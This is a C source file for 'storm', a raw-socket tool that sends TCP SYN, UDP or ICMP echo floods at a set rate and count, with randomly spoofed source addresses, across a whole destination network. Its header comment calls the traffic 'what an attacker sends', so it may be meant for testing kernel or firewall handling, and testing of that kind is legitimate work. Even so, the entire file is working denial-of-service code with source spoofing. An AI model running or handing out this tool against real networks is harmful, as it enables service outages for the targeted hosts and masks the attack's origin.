/*
 * Packets of strangers: from any address of a network to any address of another, at a rate. What is sent is
 * what an attacker sends, and so is the kernel's business alone whether it gets anywhere.
 *
 *	storm syn  SOURCE[/LEN] DEST[/LEN] PORT RATE COUNT
 *	storm udp  SOURCE[/LEN] DEST[/LEN] PORT RATE COUNT [SOURCE-PORT]
 *	storm icmp SOURCE[/LEN] DEST[/LEN] 0 RATE COUNT
 *
 * Prints how many were sent. IPv4. Destinations of a network come in turn, sources at random.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct net {
	uint32_t base, mask;
};

struct packet {
	struct iphdr ip;
	union {
		struct tcphdr tcp;
		struct udphdr udp;
		struct icmphdr icmp;
	} u;
} __attribute__((packed));

static int parse_net(const char *text, struct net *ret)
{
	char copy[32];
	char *slash;
	struct in_addr addr;
	unsigned long len = 32;

	(void)snprintf(copy, sizeof(copy), "%s", text);
	slash = strchr(copy, '/');
	if (slash) {
		*slash = '\0';
		len = strtoul(slash + 1, NULL, 10);
	}
	if (inet_pton(AF_INET, copy, &addr) != 1 || len > 32)
		return -1;
	ret->mask = len == 32 ? 0 : UINT32_MAX >> len;
	ret->base = ntohl(addr.s_addr) & ~ret->mask;
	if (len == 32)
		ret->base = ntohl(addr.s_addr);
	return 0;
}

static uint32_t next_random(uint64_t *state)
{
	*state = *state * UINT64_C(6364136223846793005) + 1442695040888963407U;
	return (uint32_t)(*state >> 32);
}

static uint16_t checksum(const void *bytes, size_t len, uint32_t sum)
{
	const uint8_t *at = bytes;

	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)at[i] << 8 | at[i + 1];
	if (len & 1)
		sum += (uint32_t)at[len - 1] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

/* Over the addresses, the protocol and the length. */
static uint32_t pseudo(const struct packet *packet, size_t len)
{
	uint32_t source = ntohl(packet->ip.saddr), dest = ntohl(packet->ip.daddr);

	return (source >> 16) + (source & 0xffff) + (dest >> 16) + (dest & 0xffff) +
	       packet->ip.protocol + (uint32_t)len;
}

static size_t build(struct packet *packet, const char *kind, uint16_t port, uint16_t source_port,
		    uint32_t random)
{
	size_t len;

	memset(&packet->u, 0, sizeof(packet->u));
	if (strcmp(kind, "syn") == 0) {
		packet->ip.protocol = IPPROTO_TCP;
		len = sizeof(packet->u.tcp);
		packet->u.tcp.source = htons(source_port);
		packet->u.tcp.dest = htons(port);
		packet->u.tcp.seq = htonl(random);
		packet->u.tcp.doff = 5;
		packet->u.tcp.syn = 1;
		packet->u.tcp.window = htons(64240);
		packet->u.tcp.check = checksum(&packet->u.tcp, len, pseudo(packet, len));
	} else if (strcmp(kind, "udp") == 0) {
		packet->ip.protocol = IPPROTO_UDP;
		len = sizeof(packet->u.udp);
		packet->u.udp.source = htons(source_port);
		packet->u.udp.dest = htons(port);
		packet->u.udp.len = htons((uint16_t)len);
	} else {
		packet->ip.protocol = IPPROTO_ICMP;
		len = sizeof(packet->u.icmp);
		packet->u.icmp.type = ICMP_ECHO;
		packet->u.icmp.un.echo.id = htons(source_port);
		packet->u.icmp.checksum = checksum(&packet->u.icmp, len, 0);
	}
	len += sizeof(packet->ip);
	packet->ip.tot_len = htons((uint16_t)len);
	return len;
}

static void wait_until(const struct timespec *start, double seconds)
{
	struct timespec at = *start;
	long whole = (long)seconds;

	at.tv_sec += whole;
	at.tv_nsec += (long)((seconds - (double)whole) * 1e9);
	if (at.tv_nsec >= 1000000000) {
		at.tv_nsec -= 1000000000;
		at.tv_sec++;
	}
	(void)clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &at, NULL); /* early is no harm */
}

int main(int argc, char **argv)
{
	struct packet packet = { .ip = { .version = 4, .ihl = 5, .ttl = 64 } };
	struct net source, dest;
	struct timespec start;
	unsigned long rate, count, sent = 0;
	uint64_t random = (uint64_t)getpid();
	int fd;

	if (argc < 7 || parse_net(argv[2], &source) < 0 || parse_net(argv[3], &dest) < 0) {
		(void)fputs("usage: storm syn|udp|icmp SOURCE DEST PORT RATE COUNT [SOURCE-PORT]\n",
			    stderr);
		return 64;
	}
	rate = strtoul(argv[5], NULL, 10);
	count = strtoul(argv[6], NULL, 10);
	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (fd < 0 || !rate) {
		perror("storm");
		return 1;
	}
	(void)clock_gettime(CLOCK_MONOTONIC, &start);
	for (unsigned long i = 0; i < count; i++) {
		struct sockaddr_in to = { .sin_family = AF_INET };
		size_t len;

		packet.ip.saddr = htonl(source.base | (next_random(&random) & source.mask));
		packet.ip.daddr = htonl(dest.base | ((uint32_t)(i + 1) & dest.mask));
		to.sin_addr.s_addr = packet.ip.daddr;
		len = build(&packet, argv[1], (uint16_t)strtoul(argv[4], NULL, 10),
			    argc > 7 ? (uint16_t)strtoul(argv[7], NULL, 10)
				     : (uint16_t)(1024 + next_random(&random) % 60000),
			    next_random(&random));
		if (i % 8 == 0 || rate < 1000)
			wait_until(&start, (double)i / (double)rate);
		sent += sendto(fd, &packet, len, 0, (struct sockaddr *)&to, sizeof(to)) >= 0;
	}
	(void)printf("%lu\n", sent);
	return close(fd) < 0;
}
